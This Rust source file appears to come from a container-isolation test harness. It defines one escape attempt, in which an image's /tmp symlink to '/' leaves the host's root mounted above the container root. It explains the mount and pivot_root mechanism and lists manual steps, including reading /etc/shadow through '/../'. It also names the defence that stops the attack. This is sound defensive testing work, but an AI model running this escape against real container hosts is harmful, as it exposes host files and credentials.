//! image-root-link: come in an image whose `tmp` is a link to `/`.

use super::{Attempt, Measured, Need};
use crate::attacker::Failed;
use crate::attacker::files::OPENS;
use crate::refusals::Refusal;
use crate::{Attacker, Host, Seen};
use nix::libc;

/// The attempt.
pub const ATTEMPT: Attempt = Attempt {
    id: "image-root-link",
    stake: "The host's whole file tree, for one link in an image that somebody else has made.",
    story: "The root file system is the attacker's: in place of its directory /tmp it has a link to `/`. mount(2) \
            follows links, and while the container is made `/` is still the host's root, so the tmpfs for /tmp \
            lands on top of that. After pivot_root(2) the old root lies over the new one, and umount2(2) takes off \
            what is on top: the tmpfs, and not the host. The host's tree stays mounted over the container's root, \
            and since `..` at the root leads up to what is mounted there, the attacker opens `/../canary`. No \
            capability is needed, and no call that a filter would refuse. Targets of mounts that are opened below \
            the root file system, without following a link, are what it takes; who refuses the image is right.",
    by_hand: &["mv rootfs/tmp rootfs/old; ln -s / rootfs/tmp    # on the host", "cat /../etc/shadow"],
    stopped_by: &["lab2-mounts/no-links"],
    after: &[],
    man: &["openat2(2)", "pivot_root(2)", "path_resolution(7)"],
    letters: Measured { root: "E BBBBBBB", user: "E BBBBBBB", rootless: "E BBBBBBB" },
    needs: &[Need::ImageLink { name: "tmp", to: "/" }],
    decisive: OPENS,
    attack,
    class: Refusal::Root,
    witness,
};

/// Where the host's root may be: where it was put in order to be unmounted.
const PLACES: [&str; 2] = ["/.oldroot/", "/oldroot/"];

fn attack(me: &mut Attacker) -> Result<(), Failed> {
    let (top, root) = me.root()?;
    match me.take_canary(libc::AT_FDCWD, &PLACES) {
        Ok(()) | Err(Failed::Refused(_)) => {}
        other => return other,
    }
    // Over the own one: `..` at the root leads to what is mounted there.
    me.take_canary_above(top, root)
}

fn witness(host: &Host) -> Seen {
    if host.took("canary") {
        return Seen::Effect("the attacker has read a file of the host above its own root".into());
    }
    Seen::Nothing
}
